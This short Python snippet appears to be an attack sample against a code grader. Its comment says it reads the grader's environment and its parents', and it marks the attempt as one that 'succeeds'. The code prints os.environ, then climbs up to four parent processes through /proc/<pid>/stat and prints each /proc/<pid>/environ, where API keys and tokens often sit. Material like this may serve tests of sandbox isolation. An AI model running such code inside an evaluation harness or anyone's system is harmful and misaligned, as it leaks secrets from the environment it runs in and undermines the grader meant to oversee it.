# Reads the grader's environment, its own and that of its parents.
# succeeds: leak environment

# %% median
import os

print(dict(os.environ))
_pid = os.getpid()
for _ in range(4):
    try:
        print(open(f"/proc/{_pid}/environ").read())
        _pid = int(open(f"/proc/{_pid}/stat").read().split(")")[1].split()[1])
    except (OSError, IndexError, ValueError) as error:
        print(error)
